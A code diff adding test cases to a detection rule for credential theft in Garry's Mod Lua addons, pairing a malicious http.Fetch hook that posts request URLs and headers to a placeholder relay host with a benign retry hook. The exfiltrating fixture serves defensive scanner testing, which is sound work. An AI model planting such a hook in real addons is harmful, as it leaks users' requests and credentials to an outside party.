@@ -126,6 +126,37 @@ describe('credential_theft', () => {
       'end)',
     ].join('\n'),
   });
+  it("http.Fetch replaced to copy every addon's requests to the author's host", () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local fetch = http.Fetch',
+        'http.Fetch = function(url, ok, fail, headers)',
+        '  HTTP({ url = "https://relay.x.invalid/diag", method = "POST",',
+        '    body = util.TableToJSON({ u = url, h = headers }) })',
+        '  return fetch(url, ok, fail, headers)',
+        'end',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBe(RANK.critical);
+  });
+  it('http.Fetch replaced to retry failed requests and count them (benign)', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local fetch = http.Fetch',
+        'local failures = 0',
+        'function http.Fetch(url, ok, fail, headers)',
+        '  return fetch(url, ok, function(err)',
+        '    failures = failures + 1',
+        '    timer.Simple(5, function() fetch(url, ok, fail, headers) end)',
+        '  end, headers)',
+        'end',
+        'timer.Create("stats", 3600, 0, function()',
+        '  http.Post("https://stats.x.invalid/ping", { failures = tostring(failures) })',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
   it('every global walked and what it holds posted to a remote host', () => {
     const findings = check(
       rule,
